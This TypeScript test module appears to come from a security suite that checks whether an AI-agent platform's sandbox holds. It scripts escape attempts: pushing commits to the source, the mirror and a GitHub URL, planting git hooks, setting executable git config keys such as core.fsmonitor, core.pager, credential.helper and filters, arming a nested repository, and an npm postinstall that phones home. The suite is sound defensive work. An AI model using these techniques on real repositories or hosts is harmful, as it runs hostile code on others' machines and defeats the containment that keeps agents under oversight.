// Attempts through git: pushing from inside, and arming hooks, executable config and install scripts
// so that the platform's own git operations (or an install) run the attacker's code on the host.
import { spawnSync } from "node:child_process";
import { readdirSync, rmSync } from "node:fs";
import { SlipwayError } from "../../src/core/errors.ts";
import { collectDiff } from "../../src/judge/guards/collect-diff.ts";
import { builtinTools } from "../../src/tools/registry.ts";
import { runTool } from "../../src/tools/run-tool.ts";
import type { ToolContext } from "../../src/tools/tool.ts";
import { runGit } from "../../src/workspace/git.ts";
import { changedFiles, commitAll } from "../../src/workspace/worktree.ts";
import { worktreeGitOptions } from "../../src/workspace/worktree-admin.ts";
import { snapshotWorktree } from "../../src/workspace/worktree-commit.ts";
import { git } from "../helpers/git-fixture.ts";
import { type AttackRun, clearMarkers } from "./attack-world.ts";
import { type Attempt, blocked, breached, gist, inconclusive, notRun, type Verdict } from "./attempt.ts";

function refsOf(repository: string): string {
  return git(repository, "for-each-ref", "--format=%(refname) %(objectname)");
}

const gitPush: Attempt = {
  name: "git push from inside",
  proves: "host-root",
  async run({ sh, world }) {
    const before = [refsOf(world.source), refsOf(world.mirrorPath)];
    const identity = "-c user.name=attacker -c user.email=attacker@example.invalid";
    const script = [
      `git ${identity} commit --allow-empty -m pwned 2>&1; git push origin HEAD:refs/heads/pwned 2>&1`,
      `git push "${world.source}" HEAD:refs/heads/pwned 2>&1`,
      `cd "$(mktemp -d /tmp/slipway-attack-push-XXXXXX)" && echo "scratch $PWD" && git init -q pushed && cd pushed && git ${identity} commit -q --allow-empty -m pwned && echo committed-inside`,
      `git push "${world.source}" HEAD:refs/heads/pwned 2>&1; git push "${world.mirrorPath}" HEAD:refs/heads/pwned 2>&1`,
      "git push https://github.com/slipway-attack/target.git HEAD:refs/heads/pwned 2>&1",
    ].join("\n");
    const result = await sh(script, { env: { GIT_TERMINAL_PROMPT: "0" } });
    const after = [refsOf(world.source), refsOf(world.mirrorPath)];
    // A weakened sandbox's scratch lands in the host's /tmp: remove it (inside, it is the sandbox's own).
    const scratch = /^scratch (\/tmp\/slipway-attack-push-\w+)$/m.exec(result.stdout)?.[1];
    if (scratch) rmSync(scratch, { recursive: true, force: true });
    if (after[0] !== before[0] || after[1] !== before[1])
      return breached("a ref changed in the source or the mirror");
    const didNotRun = notRun(result);
    if (didNotRun) return didNotRun;
    // The control: git itself works inside (the attacker's own commit in /tmp was made).
    if (!/^committed-inside$/m.test(result.stdout))
      return inconclusive(`git did not work inside: ${gist(result.output)}`);
    const fatal = result.output.split("\n").find((line) => /^(fatal|error):/.test(line)) ?? result.output;
    return blocked(gist(fatal));
  },
};

/**
 * What the platform does with a worktree after the agent: its changed-files check, the agent's git
 * tool (status, diff, log, show), the review's diff and the commit. Returns its errors and refusals.
 */
async function platformGitOperations({
  world,
  worktree,
  sandbox,
}: AttackRun): Promise<{ errors: string[]; refusals: string[] }> {
  const errors: string[] = [];
  const refusals: string[] = [];
  const attempt = async (what: string, work: () => Promise<unknown>) => {
    try {
      await work();
    } catch (error) {
      // A SlipwayError is the platform refusing on purpose (a wall, e.g. no nested repository is
      // committed); anything else is its git breaking on the attacker's repository.
      if (SlipwayError.isInstance(error)) refusals.push(`${what}: ${error.message}`);
      else errors.push(`${what}: ${error instanceof Error ? error.message : String(error)}`);
    }
  };
  const context: ToolContext = {
    worktree,
    sandbox,
    mirrorPath: world.mirrorPath,
    commandAllowlist: [],
    commandTimeoutMs: 30_000,
    verify: async () => "",
    signal: AbortSignal.timeout(120_000),
  };
  const gitTool = builtinTools.get("git");
  if (!gitTool) return { errors: ["the git tool is not registered"], refusals };
  await attempt("changed files", () => changedFiles(world.mirrorPath, worktree));
  for (const [command, args] of [
    ["status", []],
    ["diff", []],
    ["log", ["-p"]],
    ["show", []],
  ] as const) {
    const result = await runTool(gitTool, { command, args }, context, { maxOutputChars: 10_000 });
    if (result.isError) errors.push(`git tool ${command}: ${gist(result.text)}`);
  }
  const options = await worktreeGitOptions(world.mirrorPath, worktree);
  const base = (await runGit(["rev-parse", "HEAD"], options)).stdout.trim();
  const reviewGit = async (args: string[]) => (await runGit(args, options)).stdout;
  // The pipeline's own path: the freeze (which refuses nested repositories), then the diff of its tree.
  await attempt("review diff", async () =>
    collectDiff(reviewGit, base, await snapshotWorktree(world.mirrorPath, worktree)),
  );
  const committer = { name: "Slipway", email: "slipway@example.invalid" };
  await attempt("commit", () =>
    commitAll({ mirrorPath: world.mirrorPath, worktreePath: worktree, message: "run result", committer }),
  );
  return { errors, refusals };
}

/**
 * Run the platform's git work, then check no marker appeared; the control, plain git in the
 * worktree as a naive platform would run it, must spring the trap (inconclusive otherwise).
 */
async function platformStaysClean(attack: AttackRun, setup: string, control: string[]): Promise<Verdict> {
  try {
    const armed = await attack.sh(setup);
    const didNotRun = notRun(armed);
    if (didNotRun) return didNotRun;
    if (armed.exitCode !== 0) return inconclusive(`could not arm the trap: ${gist(armed.output)}`);
    const { errors, refusals } = await platformGitOperations(attack);
    const sprung = clearMarkers(attack.world);
    spawnSync("git", ["-c", "safe.directory=*", ...control], {
      cwd: attack.worktree,
      stdio: "ignore",
      timeout: 30_000,
    });
    const live = readdirSync(attack.world.markers).length > 0;
    if (sprung.length > 0) return breached(`ran on the host: ${sprung.join(", ")}`);
    if (errors.length > 0) return breached(`platform git failed: ${gist(errors.join("; "))}`);
    if (!live) return inconclusive("the trap did not fire under plain git either: it proves nothing");
    const refused = refusals.length > 0 ? `; refused: ${gist(refusals.join("; "), 60)}` : "";
    return blocked(`no hook or program ran in the platform's git; the trap fires under plain git${refused}`);
  } finally {
    // Markers of the control (or of a step that threw) must not leak into the next attempt.
    clearMarkers(attack.world);
  }
}

/** A shell snippet that writes `armed.sh`, which leaves `<markers>/<prefix>-<its name>-<pid>` behind. */
function armedProgram(attack: AttackRun, prefix: string): string {
  return `printf '#!/bin/sh\\ntouch "${attack.world.markers}/${prefix}-$(basename "$0")-$$"\\n' > armed.sh && chmod +x armed.sh`;
}

const gitHooks: Attempt = {
  name: "install a git hook that would run on the host",
  proves: "platform",
  async run(attack) {
    const hooks = [
      "pre-commit",
      "prepare-commit-msg",
      "commit-msg",
      "post-commit",
      "post-checkout",
      "reference-transaction",
      "post-index-change",
      "pre-auto-gc",
    ];
    const setup = [
      armedProgram(attack, "hook"),
      // Through the admin directory the .git file names (not mounted), then by replacing .git outright.
      `admin=$(sed -n 's/^gitdir: //p' .git); mkdir -p "$admin/hooks" 2>/dev/null && cp armed.sh "$admin/hooks/post-commit" 2>/dev/null`,
      "rm .git && git init -q . && mkdir -p .git/hooks",
      ...hooks.map((hook) => `cp armed.sh .git/hooks/${hook}`),
      `git config core.hooksPath "${attack.worktree}/.git/hooks"`,
    ].join("\n");
    return platformStaysClean(attack, setup, [
      "-c",
      "user.name=x",
      "-c",
      "user.email=x@x",
      "commit",
      "-q",
      "--allow-empty",
      "-m",
      "control",
    ]);
  },
};

const gitExecutableConfig: Attempt = {
  name: "core.fsmonitor / core.pager in the repository's config",
  proves: "platform",
  async run(attack) {
    const program = `${attack.worktree}/armed.sh`;
    const settings = {
      "core.fsmonitor": program,
      "core.pager": program,
      "diff.external": program,
      "core.sshCommand": program,
      "credential.helper": `!${program}`,
      "core.editor": program,
      "diff.armed.textconv": program,
      "diff.armed.command": program,
      "filter.armed.clean": program,
      "filter.armed.smudge": program,
      "filter.armed.process": program,
    };
    const setup = [
      armedProgram(attack, "config"),
      "rm .git && git init -q .",
      ...Object.entries(settings).map(([key, value]) => `git config ${key} '${value}'`),
      "printf '* diff=armed filter=armed\\n' > .gitattributes && echo changed >> README.md",
    ].join("\n");
    return platformStaysClean(attack, setup, ["status"]);
  },
};

const nestedRepository: Attempt = {
  name: "a nested repository with core.fsmonitor set",
  proves: "platform",
  async run(attack) {
    const program = `${attack.worktree}/armed.sh`;
    const setup = [
      armedProgram(attack, "nested"),
      "mkdir nested && cd nested && git init -q . && echo inside > file.txt && git add file.txt",
      "git -c user.name=a -c user.email=a@a commit -q -m nested && echo dirty >> file.txt",
      `git config core.fsmonitor '${program}' && git config core.hooksPath '${attack.worktree}/nested/.git/hooks'`,
    ].join("\n");
    return platformStaysClean(attack, setup, ["-C", "nested", "status"]);
  },
};

const postinstallPhoneHome: Attempt = {
  name: "npm postinstall that phones home",
  proves: "network",
  async run({ sh, world }) {
    const before = world.loopback.connections + world.wildcard.connections;
    try {
      const result = await sh("npm install --offline --no-audit --no-fund 2>&1", { timeoutMs: 120_000 });
      const reached = world.loopback.connections + world.wildcard.connections - before;
      const marker = readdirSync(world.markers).includes("postinstall");
      const failures = [
        ...new Set([...result.output.matchAll(/^failed \S+ (\S+)$/gm)].map((match) => match[1])),
      ];
      if (reached > 0 || marker || /^phoned /m.test(result.output))
        return breached(`${reached} host connections; marker on the host: ${marker}`);
      const didNotRun = notRun(result);
      if (didNotRun) return didNotRun;
      if (!/postinstall ran/.test(result.output))
        return inconclusive(`the postinstall never ran: ${gist(result.output)}`);
      return blocked(
        `postinstall ran inside; 0 host connections; ${failures.join(", ") || gist(result.output)}`,
      );
    } finally {
      clearMarkers(world);
    }
  },
};

export const gitAttempts: Attempt[] = [
  gitPush,
  gitHooks,
  gitExecutableConfig,
  nestedRepository,
  postinstallPhoneHome,
];
